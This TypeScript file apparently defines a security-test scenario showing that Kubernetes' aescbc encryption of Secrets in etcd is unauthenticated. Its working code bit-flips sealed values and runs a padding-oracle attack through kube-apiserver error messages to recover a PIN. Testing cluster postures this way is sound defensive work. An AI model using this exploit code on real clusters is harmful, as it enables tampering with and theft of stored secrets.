/**
 * etcd: the sealed value, one bit turned  --kube-apiserver opens it all the same-->  whoever trusts the Secret
 * etcd: two blocks of it as a Secret of his own  --GET: "invalid padding", or another error-->  developer
 */
import { randomInt } from 'node:crypto'
import { BLOCK_BYTES, openFromTheEnd } from '../../lib/attacker/padding-oracle.ts'
import { secretKey } from '../../lib/attacker/reach-goal.ts'
import type { Loot, World } from '../../lib/attacker/world.ts'
import type { Operator } from '../../lib/cluster/operator.ts'
import {
  DEVELOPER_NAMESPACE,
  DEVELOPER_WITH_ETCD,
  OWN_SECRET_KEY,
  ownSecretByApi,
  settleDeveloper,
} from '../../lib/scenario/developer.ts'
import { NOTHING_SEALED } from '../../lib/scenario/etcd-thief.ts'
import { scenario, type Expectation, type Staged, type Variant } from '../../lib/scenario/scenario.ts'

const PREFIX = /^k8s:enc:[a-z]+:v1:[^:]+:/
const NOT_PADDED = /invalid padding on input|invalid PKCS7 data/

/** What every such Secret holds from the day it was made: the developer knows it, and that nobody looks at most of it. */
const FILLER = 'x'.repeat(6 * BLOCK_BYTES)
const PIN = { name: 'pin', namespace: DEVELOPER_NAMESPACE }
const PIN_PATH = `/api/v1/namespaces/${PIN.namespace}/secrets/${PIN.name}`
const PIN_DIGITS = 6
/** What stands behind a Secret's last value in the store: its type, and two empty fields of runtime.Unknown. */
const TAIL = Buffer.concat([Buffer.of(0x1a, 6), Buffer.from('Opaque'), Buffer.of(0x1a, 0, 0x22, 0)])

const UNSEALED: Record<string, Expectation> = {
  open: NOTHING_SEALED,
  encrypted: NOTHING_SEALED,
  kubeadm: NOTHING_SEALED,
}
const THROUGH: Expectation = { kind: 'through' }
const OPENED_BY_NOBODY: Expectation = { kind: 'stopped', by: 'kube-apiserver', layer: 'crypto', code: 'InternalError' }

const AS_SEALED: Pick<Variant, 'foothold' | 'expect' | 'twin'> = {
  foothold: DEVELOPER_WITH_ETCD,
  expect: {
    open: THROUGH,
    encrypted: THROUGH,
    kubeadm: THROUGH,
    hardened: OPENED_BY_NOBODY,
    'zero-trust': OPENED_BY_NOBODY,
  },
  twin: { through: { restore: 'encryption-provider' }, stopped: { weaken: 'encryption-authenticated' } },
}
const AS_AESCBC: Pick<Variant, 'foothold' | 'expect' | 'twin' | 'premise'> = {
  foothold: DEVELOPER_WITH_ETCD,
  premise: ['encryption-authenticated'],
  expect: { ...UNSEALED, hardened: THROUGH, 'zero-trust': THROUGH },
  twin: { through: { restore: 'encryption-authenticated' } },
}

const TURNED = { write: 'words of its own in a Secret', placed: isTurned }
const FOUND_OUT = { read: 'fact', what: 'a PIN that nobody told', known: pinOf } as const

export default scenario({
  title: 'Unauthenticated mode',
  story: `aescbc hides a value and does not hold it together. Who writes to etcd turns bits of a sealed Secret, and kube-apiserver opens it:
sixteen bytes are spoilt, the next sixteen say what the thief wants. And as "invalid padding" is another error than the rest, kube-apiserver
itself tells, byte by byte, what a sealed value says. CIS takes aescbc; Kubernetes' own documents do not.`,
  refs: [
    'kubernetes.io/docs/tasks/administer-cluster/encrypt-data: "not recommended due to CBC\'s vulnerability to padding oracle attacks"',
    'apiserver/pkg/storage/value/encrypt/aes/aes.go: errInvalidPadding',
    'fidelity: encryption-flip-aescbc-last, encryption-flip-aescbc-block-before-last',
    'Vaudenay, Security Flaws Induced by CBC Padding (2002)',
  ],
  cis: ['1.2.28'],
  attack: ['T1565.001', 'T1552.007'],
  variants: [
    { id: 'flip', title: 'turned as the posture seals it', goal: TURNED, ...AS_SEALED },
    { id: 'flip-aescbc', title: 'turned under aescbc, which CIS takes as well', goal: TURNED, ...AS_AESCBC },
    { id: 'oracle', title: 'asked for as the posture seals it', goal: FOUND_OUT, ...AS_SEALED },
    { id: 'oracle-aescbc', title: 'asked for under aescbc', goal: FOUND_OUT, ...AS_AESCBC },
  ],
  async prepare(operator, goal) {
    await settleDeveloper(operator)
    if (goal.variant.startsWith('oracle')) await keepPin(operator)
    else await keepSettings(operator, goal)
  },
  async attempt(world, variant) {
    return variant.startsWith('oracle') ? pinByOracle(world) : turn(world)
  },
})

async function keepSettings(operator: Operator, { namespace, secret: name }: Staged): Promise<void> {
  const data = { settings: Buffer.from(FILLER).toString('base64') }
  const metadata = { name, namespace }
  await operator.create(`/api/v1/namespaces/${namespace}/secrets`, { apiVersion: 'v1', kind: 'Secret', metadata, data })
}

async function keepPin(operator: Operator): Promise<void> {
  const pin = String(randomInt(10 ** PIN_DIGITS)).padStart(PIN_DIGITS, '0')
  const secret = { apiVersion: 'v1', kind: 'Secret', metadata: PIN, stringData: { pin }, type: 'Opaque' }
  operator.afterwards(() => operator.delete(PIN_PATH))
  await operator.create(`/api/v1/namespaces/${PIN.namespace}/secrets`, secret)
}

async function pinOf(operator: Operator): Promise<string | undefined> {
  const { data } = (await operator.get(PIN_PATH)) as { data?: { pin?: string } }
  return `PIN ${Buffer.from(data?.pin ?? '', 'base64').toString('utf8')}`
}

async function isTurned(operator: Operator, { namespace, secret }: Staged, mark: string): Promise<boolean> {
  const reply = await operator.client.request({ path: `/api/v1/namespaces/${namespace}/secrets/${secret}` })
  const { data } = JSON.parse(reply.text) as { data?: { settings?: string } }
  return Buffer.from(data?.settings ?? '', 'base64').includes(wordsOf(mark))
}

/** As much of a mark as one block takes. */
function wordsOf(mark: string): string {
  return mark.slice(0, BLOCK_BYTES)
}

/** Puts the mark into the Secret: over its plaintext, or into the third block from the end by way of the one before it. */
async function turn(world: World): Promise<Loot> {
  const etcd = await world.etcd(world.network.etcd[0] ?? '', 'etcd')
  const key = secretKey(world.goal)
  const [found] = await etcd.range(key)
  if (found === undefined) return []
  const value = Buffer.from(found)
  const words = Buffer.from(wordsOf(world.mark))
  const isSealed = PREFIX.test(value.toString('latin1'))
  const at = isSealed ? value.length - 4 * BLOCK_BYTES : value.indexOf(FILLER)
  const fillerByte = FILLER.charCodeAt(0)
  for (const [index, byte] of words.entries()) value[at + index]! ^= byte ^ fillerByte
  await etcd.put(key, value)
  return []
}

async function pinByOracle(world: World): Promise<Loot> {
  const etcd = await world.etcd(world.network.etcd[0] ?? '', 'etcd')
  const [found] = await etcd.range(`/registry/secrets/${PIN.namespace}/${PIN.name}`)
  if (found === undefined) return []
  const value = Buffer.from(found)
  const prefix = PREFIX.exec(value.toString('latin1'))?.[0]
  if (prefix === undefined)
    return [`PIN ${value.toString('latin1').match(new RegExp(`\\d{${PIN_DIGITS}}(?=\\x1a\\x06Opaque)`))?.[0]}`]
  const asOwn = async (sealed: Buffer): Promise<string> => {
    await etcd.put(OWN_SECRET_KEY, Buffer.concat([Buffer.from(prefix), sealed]))
    return String((await ownSecretByApi(world))[0])
  }
  const sealed = value.subarray(prefix.length)
  // A value that was opened is an answer too: then it is no oracle that is asked.
  if (!NOT_PADDED.test(await asOwn(turned(sealed)))) return []
  const end = await openFromTheEnd(
    sealed,
    async (iv, block) => !NOT_PADDED.test(await asOwn(Buffer.concat([iv, block]))),
    {
      guesses,
      enough: (known) => known.length >= PIN_DIGITS + TAIL.length + (known.at(-1) ?? BLOCK_BYTES),
    },
  )
  return [`PIN ${end.subarray(0, PIN_DIGITS).toString('latin1')}`]
}

/** The last bit of the last block is turned. */
function turned(sealed: Buffer): Buffer {
  const copy = Buffer.from(sealed)
  copy[copy.length - 1]! ^= 1
  return copy
}

/** Padding, then what stands behind every value, then digits. */
function guesses(known: Buffer): readonly number[] {
  const padding = known.at(-1)
  if (padding === undefined) return Array.from({ length: BLOCK_BYTES }, (_, index) => index + 1)
  if (known.length < padding) return [padding]
  const tail = TAIL.at(-1 - (known.length - padding))
  return tail === undefined ? [...Buffer.from('0123456789')] : [tail]
}
